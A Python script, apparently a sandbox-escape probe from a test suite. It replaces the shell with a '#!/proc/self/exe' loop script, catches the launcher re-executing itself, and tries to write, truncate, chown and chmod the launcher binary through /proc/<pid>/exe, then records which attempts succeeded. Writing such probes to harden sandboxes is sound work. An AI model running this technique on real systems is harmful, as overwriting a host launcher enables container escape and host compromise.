# pyright: basic
"""Makes the shell a script that the sandbox's launcher interprets, without end, and reaches for the launcher then."""

import json
import os
import shutil
import signal
import time

SHELL = "/usr/bin/bash"
shutil.copy2(SHELL, "/attack/bash")
with open("/attack/loop", "w", encoding="utf-8") as file:
    file.write("#!/proc/self/exe /attack/loop\n")
os.chmod("/attack/loop", 0o755)
shutil.copy2("/attack/loop", "/attack/new")
seen, done = set(), set()


def harm(place):
    """Try to open the program that a process executes."""
    try:
        if "launch" not in os.readlink(f"{place}/exe"):
            return
        handle = os.open(f"{place}/exe", os.O_RDONLY)
    except OSError:
        return
    try:
        if "launch" not in os.readlink(f"/proc/self/fd/{handle}"):
            return
        done.add("opened")
        for name, action in (
            ("written", lambda: os.write(os.open(f"/proc/self/fd/{handle}", os.O_WRONLY), b"x")),
            ("cut", lambda: os.truncate(f"/proc/self/fd/{handle}", 0)),
            ("owned", lambda: os.fchown(handle, 1, 1)),
            ("closed", lambda: os.fchmod(handle, 0)),
        ):
            try:
                action()
                done.add(name)
            except OSError:
                pass
    finally:
        os.close(handle)


before = set(os.listdir("/proc"))
os.rename("/attack/new", SHELL)
open("/attack/waits", "w", encoding="utf-8").close()
end = time.monotonic() + 8
while time.monotonic() < end and not (seen and time.monotonic() > end - 4):
    for pid in set(os.listdir("/proc")) - before:
        if pid.isdecimal():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as file:
                    words = file.read()
            except OSError:
                continue
            if b"/attack/loop" in words:
                seen.add(pid)
                harm(f"/proc/{pid}")
for pid in seen:
    try:
        os.kill(int(pid), signal.SIGKILL)
    except OSError:
        pass
os.rename("/attack/bash", SHELL)
with open("/attack/result.part", "w", encoding="utf-8") as file:
    json.dump({"seen": len(seen), "done": sorted(done)}, file)
os.rename("/attack/result.part", "/attack/result")
